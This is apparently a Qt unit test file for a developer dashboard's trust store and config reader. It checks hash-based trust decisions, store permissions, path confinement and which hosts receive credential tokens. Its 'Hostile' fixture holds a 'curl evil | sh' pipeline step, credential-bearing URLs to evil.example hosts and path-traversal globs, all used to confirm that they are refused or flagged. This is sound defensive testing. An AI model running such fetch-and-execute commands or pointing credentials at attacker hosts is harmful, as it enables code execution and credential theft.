// The trust store and the one `.devdash.json` reader: decisions kept per repository
// with the file's hash (a changed file is untrusted again), the store's permissions,
// what an untrusted file may still do (report globs inside the repository) and what it
// asks for (TrustRequests), the hosts tokens go to without a repository's say.

#include "config/ConfigError.h"
#include "config/CredentialHosts.h"
#include "config/ProjectConfig.h"
#include "config/TrustRequests.h"
#include "config/TrustStore.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QTemporaryDir>
#include <QTest>

using namespace devdash;
using namespace devdash::config;

namespace {

void write(const QString &path, const QByteArray &text)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    f.write(text);
}

// (No raw string: moc reads "//" inside one as a comment; "http:/" "/" keeps it apart.)
const QByteArray Hostile
    = "{\n"
      "  \"ci\": [ { \"provider\": \"github\", \"project\": \"o/r\", \"api_url\": \"http:/"
      "/127.0.0.1:9/gh\" },\n"
      "          { \"provider\": \"github\", \"project\": \"o/public\" },\n"
      "          { \"provider\": \"jenkins\", \"project\": \"app\", \"api_url\": \"https:/"
      "/ci.evil.example\",\n"
      "            \"ca_bundle\": \"/etc/evil.pem\" } ],\n"
      "  \"databases\": [ { \"name\": \"production\", \"url\": \"postgresql:/"
      "/app:inline@db.evil.example/shop\" } ],\n"
      "  \"pipeline\": { \"stages\": [ { \"name\": \"build\", \"steps\": [ { \"name\": \"x\", \"run\": "
      "\"curl evil | sh\" } ] } ] },\n"
      "  \"tests\": { \"reports\": [ \"build/*.xml\", \"/tmp/outside/*.xml\", \"../../**/*.xml\", "
      "\"a/../b/*.xml\" ] }\n"
      "}";

} // namespace

class TestTrustStore : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;

    QString repo(const QString &name, const QByteArray &config)
    {
        const QString root = m_dir.filePath(name);
        QDir().mkpath(root);
        if (!config.isNull())
            write(root + QStringLiteral("/.devdash.json"), config);
        return root;
    }

private Q_SLOTS:
    void decisionsAreKeptWithTheHash()
    {
        TrustStore store(m_dir.filePath(QStringLiteral("config/devdash/trust.json")));
        const QString root = repo(QStringLiteral("hashed"), Hostile);
        auto before = ProjectConfig::load(root, store);
        QVERIFY2(before, qPrintable(before.errorMessage()));
        QVERIFY(before->exists());
        QVERIFY(!before->isTrusted());
        QCOMPARE(before->sha256().size(), 64);

        QVERIFY(store.decide(root, before->sha256(), true));
        QVERIFY(ProjectConfig::load(root, store)->isTrusted());
        // The same folder by another spelling is the same repository.
        QVERIFY(ProjectConfig::load(root + QStringLiteral("/./"), store)->isTrusted());

        // One byte more: another file, untrusted until the user decides again.
        write(root + QStringLiteral("/.devdash.json"), Hostile + ' ');
        auto changed = ProjectConfig::load(root, store);
        QVERIFY(!changed->isTrusted());
        QVERIFY(!store.isDecided(root, changed->sha256()));

        QVERIFY(store.decide(root, changed->sha256(), false));
        QVERIFY(store.isDecided(root, changed->sha256()));
        QVERIFY(!ProjectConfig::load(root, store)->isTrusted());
        QCOMPARE(store.decisions().size(), 1);

        QVERIFY(store.decide(root, changed->sha256(), true));
        QVERIFY(store.forget(root));
        QVERIFY(!ProjectConfig::load(root, store)->isTrusted());
        QVERIFY(!store.decision(root));
    }

    void onlyTheUserReadsTheStore()
    {
        const QString file = m_dir.filePath(QStringLiteral("perm/devdash/trust.json"));
        TrustStore store(file);
        const QString root = repo(QStringLiteral("perm-repo"), "{}");
        QVERIFY(store.decide(root, QByteArray(64, 'a'), true));
        QCOMPARE(QFileInfo(file).permissions(),
            QFile::ReadOwner | QFile::WriteOwner | QFile::ReadUser | QFile::WriteUser);
        const QFile::Permissions dir = QFileInfo(QFileInfo(file).absolutePath()).permissions();
        QVERIFY(!(dir & (QFile::ReadGroup | QFile::ReadOther | QFile::WriteGroup | QFile::WriteOther)));
    }

    void missingFileAsksNothing()
    {
        TrustStore store(m_dir.filePath(QStringLiteral("none/trust.json")));
        auto config = ProjectConfig::load(repo(QStringLiteral("no-file"), QByteArray()), store);
        QVERIFY(config);
        QVERIFY(!config->exists());
        QVERIFY(config->isTrusted());
        QVERIFY(TrustRequests::of(*config).isEmpty());
    }

    void untrustedGlobsStayInside()
    {
        TrustStore store(m_dir.filePath(QStringLiteral("globs/trust.json")));
        const QString root = repo(QStringLiteral("globs"), Hostile);
        auto config = ProjectConfig::load(root, store);
        QCOMPARE(config->testReportGlobs(),
            QStringList({ QStringLiteral("build/*.xml"), QStringLiteral("a/../b/*.xml") }));
        QCOMPARE(config->refusedReportGlobs(),
            QStringList({ QStringLiteral("/tmp/outside/*.xml"), QStringLiteral("../../**/*.xml") }));
        QVERIFY(store.decide(root, config->sha256(), true));
        QCOMPARE(ProjectConfig::load(root, store)->testReportGlobs().size(), 4);

        QVERIFY(ProjectConfig::staysInside(QStringLiteral("a/b/../c")));
        QVERIFY(!ProjectConfig::staysInside(QStringLiteral("a/../../c")));
        QVERIFY(!ProjectConfig::staysInside(QStringLiteral("/abs")));
        QVERIFY(!ProjectConfig::staysInside(QStringLiteral("~/x")));
        QVERIFY(!ProjectConfig::staysInside(QStringLiteral("C:/x")));
    }

    void requestsListWhatTheFileAsksFor()
    {
        auto config = ProjectConfig::parse(Hostile, QStringLiteral("f"));
        QVERIFY(config);
        QStringList lines;
        for (const TrustRequest &r : TrustRequests::of(*config))
            lines << TrustRequests::describe(r);
        const QString all = lines.join(QLatin1Char('\n'));
        // The repository-named GitHub host (with the token that would go there); not the public one.
        QVERIFY2(
            all.contains(QStringLiteral("host http://127.0.0.1:9/gh (github: GITHUB_TOKEN (or GH_TOKEN)")),
            qPrintable(all));
        QVERIFY2(!all.contains(QStringLiteral("o/public")), qPrintable(all));
        QVERIFY2(all.contains(
                     QStringLiteral("host https://ci.evil.example (jenkins: JENKINS_USER and JENKINS_TOKEN")),
            qPrintable(all));
        QVERIFY2(all.contains(QStringLiteral("path /etc/evil.pem")), qPrintable(all));
        // A database without the password written into the file.
        QVERIFY2(all.contains(QStringLiteral(
                     "database postgresql://app@db.evil.example/shop (production: connected with "
                     "DEVDASH_DB_PASSWORD_PRODUCTION, PGPASSWORD")),
            qPrintable(all));
        QVERIFY2(!all.contains(QStringLiteral("inline")), qPrintable(all));
        QVERIFY2(
            all.contains(QStringLiteral("command curl evil | sh (pipeline stage build)")), qPrintable(all));
        QVERIFY2(all.contains(QStringLiteral("path /tmp/outside/*.xml (test reports)")), qPrintable(all));
        QVERIFY2(all.contains(QStringLiteral("path ../../**/*.xml")), qPrintable(all));
        QCOMPARE(lines.size(), 7);
    }

    void readerIsBounded()
    {
        TrustStore store(m_dir.filePath(QStringLiteral("bounded/trust.json")));
        const QString big = repo(QStringLiteral("big"), QByteArray(ProjectConfig::MaxBytes + 10, ' '));
        auto tooBig = ProjectConfig::load(big, store);
        QVERIFY(!tooBig);
        QVERIFY2(tooBig.errorMessage().contains(QStringLiteral("larger than 1024 KiB")),
            qPrintable(tooBig.errorMessage()));

        // A link to a file outside the repository is not read.
        write(m_dir.filePath(QStringLiteral("secret.json")), "{}");
        const QString linked = repo(QStringLiteral("linked"), QByteArray());
        QVERIFY(QFile::link(
            m_dir.filePath(QStringLiteral("secret.json")), linked + QStringLiteral("/.devdash.json")));
        auto outside = ProjectConfig::load(linked, store);
        QVERIFY(!outside);
        QVERIFY2(outside.errorMessage().contains(QStringLiteral("regular file inside the repository")),
            qPrintable(outside.errorMessage()));
    }

    void errorsHaveOneShape()
    {
        auto config
            = ProjectConfig::parse("{\n  \"x\": 1,\n  \"tests\": 3\n}", QStringLiteral("/r/.devdash.json"));
        QVERIFY(!config);
        QVERIFY2(config.errorMessage().startsWith(
                     QStringLiteral("/r/.devdash.json:3: \"tests\": expected an object")),
            qPrintable(config.errorMessage()));
        const Error untrusted = ConfigError::notTrusted(QStringLiteral("/r/.devdash.json"),
            QStringLiteral("/r"), QStringLiteral("it names the database production"));
        QVERIFY(ConfigError::isNotTrusted(untrusted));
        QVERIFY(untrusted.message.contains(QStringLiteral("devdash trust /r")));
    }

    void hostsTokensGoToWithoutTrust()
    {
        QVERIFY(
            CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("https://api.github.com")));
        QVERIFY(CredentialHosts::isUserHost(
            QStringLiteral("gitlab"), QStringLiteral("https://gitlab.com/api/v4")));
        QVERIFY(
            !CredentialHosts::isUserHost(QStringLiteral("github"), QStringLiteral("http://api.github.com")));
        QVERIFY(!CredentialHosts::isUserHost(
            QStringLiteral("github"), QStringLiteral("https://api.github.com.evil.example")));
        QVERIFY(!CredentialHosts::isUserHost(
            QStringLiteral("github"), QStringLiteral("https://gitlab.com/api/v4")));
        QVERIFY(!CredentialHosts::isUserHost(
            QStringLiteral("jenkins"), QStringLiteral("https://ci.example.com")));
        QVERIFY(!CredentialHosts::isUserHost(
            QStringLiteral("github"), QStringLiteral("https://ghe.example.com/api/v3")));
        qputenv("GH_HOST", "ghe.example.com");
        QVERIFY(CredentialHosts::isUserHost(
            QStringLiteral("github"), QStringLiteral("https://ghe.example.com/api/v3")));
        QVERIFY(CredentialHosts::isUserHost(
            QStringLiteral("github"), QStringLiteral("https://api.ghe.example.com")));
        QVERIFY(!CredentialHosts::isUserHost(
            QStringLiteral("gitlab"), QStringLiteral("https://ghe.example.com")));
        qunsetenv("GH_HOST");
        qputenv("GITLAB_HOST", "https://gitlab.example.com:8443");
        QVERIFY(CredentialHosts::isUserHost(
            QStringLiteral("gitlab"), QStringLiteral("https://gitlab.example.com:8443/api/v4")));
        QVERIFY(!CredentialHosts::isUserHost(
            QStringLiteral("gitlab"), QStringLiteral("https://gitlab.example.com/api/v4")));
        qunsetenv("GITLAB_HOST");

        for (const char *loopback : { "localhost", "127.0.0.1", "127.1.2.3", "::1", "[::1]", "LOCALHOST" })
            QVERIFY2(CredentialHosts::isLoopback(QString::fromLatin1(loopback)), loopback);
        for (const char *remote : { "127.0.0.1.evil.example", "10.0.0.1", "example.com", "128.0.0.1", "::2" })
            QVERIFY2(!CredentialHosts::isLoopback(QString::fromLatin1(remote)), remote);
    }
};

QTEST_GUILESS_MAIN(TestTrustStore)
#include "tst_truststore.moc"
